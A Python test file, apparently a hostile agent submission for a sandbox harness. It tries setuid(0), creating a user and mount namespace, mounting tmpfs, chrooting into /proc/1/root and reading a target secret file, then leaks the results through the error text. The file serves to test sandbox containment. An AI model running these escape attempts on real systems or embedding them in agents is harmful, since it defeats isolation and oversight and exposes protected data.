"""Hostile submission privilege_escalation: expect error (report): setuid(0), a user namespace of its own, mounts, chroot."""
import json
import os

HERE = os.path.dirname(os.path.abspath(__file__))
try:
    with open(os.path.join(HERE, "targets.json")) as _f:
        TARGETS = json.load(_f)  # paths the test wants attacked; never the secret itself
except OSError:
    TARGETS = {}


class Report(Exception):
    """Carries what the attack found out through the only channel it has: the trial's error text."""


def report(found):
    for width in (None, 300, 100, 40):  # the harness keeps the last 4000 characters of the error text
        text = json.dumps({str(k): v if width is None else _short(v, width) for k, v in found.items()}, default=repr)
        if len(text) < 3000:
            break
    raise Report("REPORT " + text)


def _short(value, width):
    if isinstance(value, (int, float, bool)) or value is None:
        return value
    return (value if isinstance(value, str) else repr(value))[:width]


def attempt(fn, *args):
    """'ok: <result>' or '<exception type>: <message>', never raising."""
    try:
        return "ok: " + repr(fn(*args))[:200]
    except BaseException as exc:  # noqa: BLE001 - attack code reports everything
        return f"{type(exc).__name__}: {exc}"[:200]


import ctypes
import os

import arena

CLONE_NEWNS, CLONE_NEWUSER = 0x00020000, 0x10000000


def _read(path):
    with open(path) as handle:
        return handle.read(200)


def _userns():
    libc = ctypes.CDLL(None, use_errno=True)
    uid, gid = os.getuid(), os.getgid()
    if libc.unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0:
        raise OSError(ctypes.get_errno(), "unshare")
    with open("/proc/self/setgroups", "w") as handle:
        handle.write("deny")
    with open("/proc/self/uid_map", "w") as handle:
        handle.write(f"0 {uid} 1")
    with open("/proc/self/gid_map", "w") as handle:
        handle.write(f"0 {gid} 1")
    return os.getuid()


def _mount_tmpfs():
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) != 0:
        raise OSError(ctypes.get_errno(), "mount")
    return os.listdir("/tmp")


class Agent(arena.Agent):
    def adapt(self, env):
        secret = TARGETS.get("secret_file", "/nonexistent")
        found = {"setuid0": attempt(os.setuid, 0), "setgid0": attempt(os.setgid, 0)}
        found["userns"] = attempt(_userns)
        found["mount"] = attempt(_mount_tmpfs)
        found["chroot"] = attempt(os.chroot, "/proc/1/root")
        found["secret_after"] = attempt(_read, secret)
        found["root_listing"] = attempt(os.listdir, "/")
        report(found)

    def act(self, observation, info):
        return 0
